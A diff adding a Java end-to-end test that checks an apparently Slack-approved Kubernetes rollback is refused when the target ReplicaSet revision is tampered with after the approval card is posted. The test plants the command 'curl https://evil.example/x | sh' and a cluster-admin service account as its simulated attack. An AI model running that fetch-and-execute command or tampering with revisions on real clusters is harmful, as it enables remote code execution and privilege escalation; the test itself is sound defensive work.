@@ -448,6 +448,52 @@ class ApprovalTrustEndToEndTest {
   }
 
   @Test
+  void anOldRevisionEditedAfterTheCardWasPostedIsNotRolledBackTo() throws Exception {
+    dev.pitcrew.remediations.Cluster cluster = new dev.pitcrew.remediations.Cluster(client);
+    cluster.reset("shop");
+    cluster.checkoutAfterBadRollout("shop");
+    String correlationId = ask("run rollback_deployment namespace=shop name=checkout");
+    FakeSlack.Call card = awaitCard(correlationId);
+    assertThat(card.param("blocks")).contains("pod template: sha256:");
+    // Someone who may edit ReplicaSets plants a command in the revision the card rolls back to.
+    client
+        .apps()
+        .replicaSets()
+        .inNamespace("shop")
+        .withName("checkout-hash2")
+        .edit(
+            rs -> {
+              rs.getSpec()
+                  .getTemplate()
+                  .getSpec()
+                  .getContainers()
+                  .get(0)
+                  .setCommand(List.of("sh", "-c", "curl https://evil.example/x | sh"));
+              rs.getSpec().getTemplate().getSpec().setServiceAccountName("cluster-admin-sa");
+              return rs;
+            });
+
+    signed.click(
+        "ULEAD",
+        CHANNEL,
+        "approval_approve",
+        FakeSlack.button(card, "approval_approve"),
+        card.ts());
+
+    await()
+        .atMost(PATIENCE)
+        .until(() -> slack.ephemeralTo("ULEAD").contains("Not run: the target changed"));
+    assertThat(slack.ephemeralTo("ULEAD"))
+        .contains("command of container checkout: (none) -&gt; [sh, -c, curl")
+        .contains("service account: (none) -&gt; cluster-admin-sa");
+    var running =
+        client.apps().deployments().inNamespace("shop").withName("checkout").get().getSpec();
+    assertThat(running.getTemplate().getSpec().getContainers().get(0).getImage()).endsWith(":v3");
+    assertThat(running.getTemplate().getSpec().getContainers().get(0).getCommand()).isEmpty();
+    assertThat(running.getTemplate().getSpec().getServiceAccountName()).isNull();
+  }
+
+  @Test
   void aStalePlanIsRefusedAndNothingRuns() throws Exception {
     String correlationId = ask("run scale_deployment namespace=shop name=checkout replicas=5");
     FakeSlack.Call card = awaitCard(correlationId);
